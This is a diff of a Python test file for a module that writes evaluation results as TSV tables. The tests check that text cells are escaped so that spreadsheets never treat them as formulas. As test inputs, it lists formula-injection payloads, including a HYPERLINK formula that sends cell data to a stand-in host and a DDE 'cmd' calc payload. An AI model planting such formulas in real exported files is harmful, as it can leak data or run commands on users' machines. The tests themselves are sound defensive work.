@@ -8,53 +8,37 @@ import random
 import numpy as np
 import pytest
 
-from bert_tf.errors import UserError
 from bert_tf.runs.results import tables
 from bert_tf.runs.results.tables import KeptRows
-
-TEXTS = [
-    "tab\there",
-    'a "quote"',
-    "two\nlines",
-    "ends\r\n",
-    "semi;colon, comma",
-    "",
-    "'tis",
-    "ü 文",
-]
+from tests.support.refusals import refuses
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
+def test_no_text_is_a_formula():
+    for text in (
         *('=HYPERLINK("http://x.example/?"&A1)', "+1 555 0100", "-2+3", "@SUM(1)", "- a list"),
         *("\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b@x"),
         *("\uff1dcmd|' /C calc'!A0", "-", "--5", "-1e5x", "=1", "-1\n", "\ttext"),
         "+\u0661",  # an Arabic digit
-    ],
-)
-def test_no_text_is_a_formula(text):
-    (cell,) = next(csv.reader(io.StringIO(tables.cell(text), newline=""), delimiter="\t"))
-    assert cell == f"'{text}"
+    ):
+        (cell,) = next(csv.reader(io.StringIO(tables.cell(text), newline=""), delimiter="\t"))
+        assert cell == f"'{text}"
 
 
-@pytest.mark.parametrize("text", ["-1", "+1", "-0.5", "-1e-7", "+.5", "-3."])
-def test_a_text_that_is_a_number_stays(text):
-    assert tables.cell(text) == f'"{text}"'
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [(-3, "-3"), (np.float32(-0.25), "-0.25"), (0.5, "0.5"), (None, ""), ("a-b=c", '"a-b=c"')],
-)
-def test_numbers_are_bare(value, expected):
-    assert tables.cell(value) == expected
+def test_numbers_are_bare_and_a_text_that_is_a_number_stays():
+    for value, expected in (
+        *((-3, "-3"), (np.float32(-0.25), "-0.25"), (0.5, "0.5"), (None, ""), ("a-b=c", '"a-b=c"')),
+        *((text, f'"{text}"') for text in ("-1", "+1", "-0.5", "-1e-7", "+.5", "-3.")),
+    ):
+        assert tables.cell(value) == expected
 
 
 def test_texts_come_back_as_they_were(tmp_path):
     path = f"{tmp_path}/t.tsv"
-    tables.write_table(path, ["id", "text"], [[f"x-{i}", text] for i, text in enumerate(TEXTS)])
-    assert tables.read_table(path) == {"id": [f"x-{i}" for i in range(len(TEXTS))], "text": TEXTS}
+    texts = ["tab\there", 'a "quote"', "two\nlines", "ends\r\n", "semi;colon, comma", "", "'tis"]
+    texts += ["ü 文", "a\ud800b"]
+    tables.write_table(path, ["id", "text"], [[f"x-{i}", text] for i, text in enumerate(texts)])
+    found = tables.read_table(path)
+    assert found == {"id": [f"x-{i}" for i in range(len(texts))], "text": [*texts[:-1], "a?b"]}
 
 
 def test_random_texts_come_back_and_begin_no_formula(tmp_path):
@@ -70,25 +54,17 @@ def test_random_texts_come_back_and_begin_no_formula(tmp_path):
             float(cell)  # nothing else may begin so
 
 
-def test_other_separators_start_no_cell(tmp_path):
-    """A spreadsheet may also separate columns at commas and semicolons, as its user once chose."""
-    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], [[1, "a;=1"], [2, "a,=1"]])
-    text = (tmp_path / "t.tsv").read_text()
-    for separator in ";,":
-        rows = csv.reader(io.StringIO(text.replace("\t", separator)), delimiter=separator)
-        assert [row[1] for row in rows] == ["text", "a;=1", "a,=1"]
-
-
 def test_names_of_columns_may_have_labels_in_them(tmp_path):
     columns = ["id", "probability B", 'probability a\t"b"', "=x"]
     tables.write_table(f"{tmp_path}/t.tsv", columns, [])
     assert list(tables.read_table(f"{tmp_path}/t.tsv")) == [*columns[:3], "'=x"]
     assert (tmp_path / "t.tsv").read_text().startswith("id\tprobability B\t")
-
-
-def test_an_unpaired_surrogate_is_replaced(tmp_path):
-    tables.write_table(f"{tmp_path}/t.tsv", ["text"], [["a\ud800b"]])
-    assert tables.read_table(f"{tmp_path}/t.tsv") == {"text": ["a?b"]}
+    # A spreadsheet may also separate columns at commas and semicolons, as its user once chose.
+    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], [[1, "a;=1"], [2, "a,=1"]])
+    text = (tmp_path / "t.tsv").read_text()
+    for separator in ";,":
+        rows = csv.reader(io.StringIO(text.replace("\t", separator)), delimiter=separator)
+        assert [row[1] for row in rows] == ["text", "a;=1", "a,=1"]
 
 
 def test_long_tables_and_texts_are_whole(tmp_path):
@@ -100,38 +76,27 @@ def test_long_tables_and_texts_are_whole(tmp_path):
     assert tables.read_table(f"{tmp_path}/t.tsv") == {"id": []}
 
 
-@pytest.mark.parametrize(
-    ("content", "message"),
-    [
+def test_another_file_is_refused(tmp_path):
+    for content, message in (
         ("", "must be a table as the evaluation writes it"),
         ("id\tlabel\n1\n", "with as many columns in each row as in its header; it begins 'id"),
         ("id\n1\t2\n", "Evaluate again"),
-    ],
-)
-def test_another_file_is_refused(tmp_path, content, message):
-    (tmp_path / "t.tsv").write_text(content)
-    with pytest.raises(UserError, match=message):
-        tables.read_table(f"{tmp_path}/t.tsv")
+    ):
+        (tmp_path / "t.tsv").write_text(content)
+        refuses(message, tables.read_table, f"{tmp_path}/t.tsv")
 
 
 def kept(labels):
     return KeptRows({"id": f"d-{i}", "text_a": f"t{i}", "label": x} for i, x in enumerate(labels))
 
 
-def test_rows_are_kept_on_disk_with_all_columns():
-    rows = KeptRows(
-        [{"id": "1", "text_b": None}, {"id": "\ud800\n", "text_b": "b"}, {"label": 2.5}]
-    )
-    assert len(rows) == 3 and rows.columns == ["id", "text_b", "label"]
-    assert [rows[i] for i in (1, 0, 2)] == [
-        {"id": "\ud800\n", "text_b": "b"},
-        {"id": "1", "text_b": None},
-        {"label": 2.5},
-    ]
+def test_rows_are_kept_on_disk_with_all_columns(tmp_path):
+    kept_rows = [{"id": "1", "text_b": None}, {"id": "\ud800\n", "text_b": "b"}, {"label": 2.5}]
+    kept_rows.append({"label": np.int64(-7), "id": np.float32(1.5)})
+    rows = KeptRows(kept_rows)
+    assert len(rows) == 4 and rows.columns == ["id", "text_b", "label"]
+    assert [rows[i] for i in (1, 0, 3, 2)] == [kept_rows[i] for i in (1, 0, 3, 2)]
     assert KeptRows([]).columns == []
-
-
-def test_a_folder_without_space_is_named(tmp_path):
     with pytest.raises(OSError, match="Cannot keep the texts .*/gone: No such file"):
         KeptRows([], f"{tmp_path}/gone")
 
@@ -153,6 +118,8 @@ def test_errors_begin_with_the_most_certain_one(tmp_path):
     assert found["id"] == [f"d-{i}" for i in range(4)]
     assert json.loads((tmp_path / "eval_report_x.json").read_text())["accuracy"] == 0.5
     assert "accuracy: 0.5000" in (tmp_path / "eval_report_x.txt").read_text()
+    tables.write_review(f"{tmp_path}", "", kept(["no"]), ["no", "yes"], right[:1], np.eye(2)[:1])
+    assert tables.read_table(f"{tmp_path}/errors.tsv")["id"] == []
 
 
 def test_errors_of_a_regression_begin_with_the_largest_difference(tmp_path):
@@ -162,15 +129,3 @@ def test_errors_of_a_regression_begin_with_the_largest_difference(tmp_path):
     assert found["id"] == ["d-2", "d-1", "d-3"] and found["difference"] == ["-3.0", "0.5", "0.25"]
     assert found["label"] == ["3.0", "2.0", "4.0"] and "probability" not in found
     assert json.loads((tmp_path / "eval_report.json").read_text())["examples"] == 4
-
-
-def test_no_errors_are_an_empty_table(tmp_path):
-    y_true = np.array([0, 1])
-    tables.write_review(f"{tmp_path}", "", kept(["a", "b"]), ["a", "b"], y_true, np.eye(2))
-    assert tables.read_table(f"{tmp_path}/errors.tsv")["id"] == []
-
-
-def test_numbers_of_numpy_are_kept():
-    labels = [np.float32(1.5), np.int64(-7)]
-    rows = kept(labels)
-    assert [rows[i]["label"] for i in range(len(rows))] == [1.5, -7]
